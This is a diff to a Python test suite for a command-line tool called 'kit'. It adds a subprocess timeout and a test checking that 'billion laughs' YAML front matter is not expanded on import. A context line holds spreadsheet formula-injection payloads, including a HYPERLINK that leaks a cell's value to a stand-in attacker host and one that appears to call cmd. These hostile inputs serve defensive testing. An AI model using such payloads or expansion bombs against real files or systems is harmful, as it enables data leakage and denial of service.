@@ -34,10 +34,14 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+SUM(1+1)*cm
 
 
 def kit(*args, cwd=ROOT, env=None, **kw):
-    """Run ``python -m kit ARGS``; return the completed process."""
+    """Run ``python -m kit ARGS``; return the completed process.
+
+    The generous timeout only turns a regression that would hang (an
+    expanding billion laughs) into a failure; nothing here is timed.
+    """
     env = {**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}
     return subprocess.run([sys.executable, "-m", "kit", *map(str, args)], cwd=cwd, env=env,
-                          capture_output=True, text=True, **kw)
+                          capture_output=True, text=True, timeout=600, **kw)
 
 
 def one_clear_line(proc, *words):
@@ -235,6 +239,17 @@ def test_control_characters_are_reported_as_file_line_and_the_folder_goes_on(tex
     assert proc.returncode == 1 and "Traceback" not in proc.stderr
     assert f"{texts / bad}:{line}: control character" in proc.stderr
     assert "1 of 2 texts valid" in proc.stderr
+
+
+def test_a_billion_laughs_front_matter_is_ignored_by_import(tmp_path):
+    body = TRANSCRIPT.read_text(encoding="utf-8")
+    header = billion_laughs().replace("format: 1\n", "").replace("l9:", "title:")
+    md = tmp_path / "laughs.md"
+    md.write_text("---\n" + header + "source: *l9\n---\n" + body, encoding="utf-8")
+    proc = kit("import", md, "--out", tmp_path / "texts")
+    assert proc.returncode == 0, proc.stderr
+    sidecar = (tmp_path / "texts" / "laughs.yml").read_text(encoding="utf-8")
+    assert "lol" not in sidecar and len(sidecar) < 100_000
 
 
 # ---------------------------------------------------------------- kit import: limits
